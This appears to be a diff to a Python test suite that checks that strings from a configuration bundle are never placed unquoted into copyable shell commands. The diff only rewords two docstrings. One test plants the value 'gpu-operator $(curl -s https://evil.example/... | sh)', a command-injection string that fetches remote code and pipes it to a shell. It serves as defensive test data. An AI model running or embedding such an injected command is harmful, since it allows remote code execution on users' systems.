@@ -1,4 +1,4 @@
-"""Bundle strings never reach a copyable command unquoted (issue 17, part 1).
+"""Bundle strings never reach a copyable command unquoted.
 
 Every sample bundle is rewritten with shell metacharacters planted in every bundle string
 that a remediation can put into a command: the manifest's operator namespace, every
@@ -277,7 +277,7 @@ def test_refusal_shows_the_value_as_one_inert_line(
 
 
 def test_the_issue_case_manifest_operator_namespace(tmp_path: Path) -> None:
-    """Issue 17: only manifest.json's operator_namespace is hostile: the findings whose
+    """The reported case: only manifest.json's operator_namespace is hostile: the findings whose
     commands name it refuse it, and nothing offered to copy holds it unquoted."""
     hostile = f"gpu-operator $(curl -s https://evil.example/{MARK} | sh)"
     report = analyze_path(write_dir(tmp_path / "b", valid_files(), operator_namespace=hostile))
